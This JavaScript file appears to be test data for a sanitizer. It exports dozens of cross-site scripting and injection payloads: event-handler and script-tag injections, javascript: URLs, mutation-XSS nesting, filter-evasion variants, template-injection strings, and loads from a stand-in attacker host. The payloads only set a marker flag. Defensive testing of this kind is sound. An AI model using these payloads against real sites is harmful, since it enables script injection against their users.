/**
 * Ways to smuggle code into a page. Each would set `globalThis.attacked` or ask the network for something.
 */
const CODE = 'globalThis.attacked=1';
const AWAY = 'https://attacker.invalid/x';

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpageshow',
  'onbeforeinput',
];
const HOLDERS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'object data=x',
  'marquee',
  'select autofocus',
];
const QUOTINGS = ['"', "'", '`', '', '"><', "'><"];

export const PAYLOADS = [
  ...HOLDERS.flatMap(holder => HANDLERS.map(handler => `<${holder} ${handler}="${CODE}">`)),
  ...QUOTINGS.map(q => `${q}><script>${CODE}</script>`),
  ...QUOTINGS.map(q => `${q} autofocus onfocus=${CODE} x=${q}`),
  `<script>${CODE}</script>`,
  `<ScRiPt>${CODE}</sCrIpT>`,
  `<script src="${AWAY}"></script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="java&#x0A;script:${CODE}">x</a>`,
  `<a href="data:text/html,<script>${CODE}</script>">x</a>`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<iframe src="javascript:${CODE}"></iframe>`,
  `<object data="javascript:${CODE}"></object>`,
  `<embed src="javascript:${CODE}">`,
  `<form action="javascript:${CODE}"><button>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}></style></mglyph></table></mtext></math>`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CODE}>"></use></svg>`,
  `<style>@import "${AWAY}";</style>`,
  `<link rel=stylesheet href="${AWAY}">`,
  `<img src="${AWAY}">`,
  `<img srcset="${AWAY} 1x">`,
  `<video poster="${AWAY}"></video>`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<template><img src=x onerror=${CODE}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  '{{constructor.constructor("globalThis.attacked=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: some template engines would run it
  '${globalThis.attacked=1}',
  '__proto__',
  'constructor',
  'toString',
  '</textarea><img src=x onerror=globalThis.attacked=1>',
  `&lt;img src=x onerror=${CODE}&gt;`,
  `&#60;script&#62;${CODE}&#60;/script&#62;`,
  `\u003cscript\u003e${CODE}\u003c/script\u003e`,
  `<img src=x:x onerror\n=\n${CODE}>`,
  `<img/src/onerror=${CODE}>`,
  `<isindex type=image src=1 onerror=${CODE}>`,
  `]]><script>${CODE}</script>`,
  `--><script>${CODE}</script>`,
];
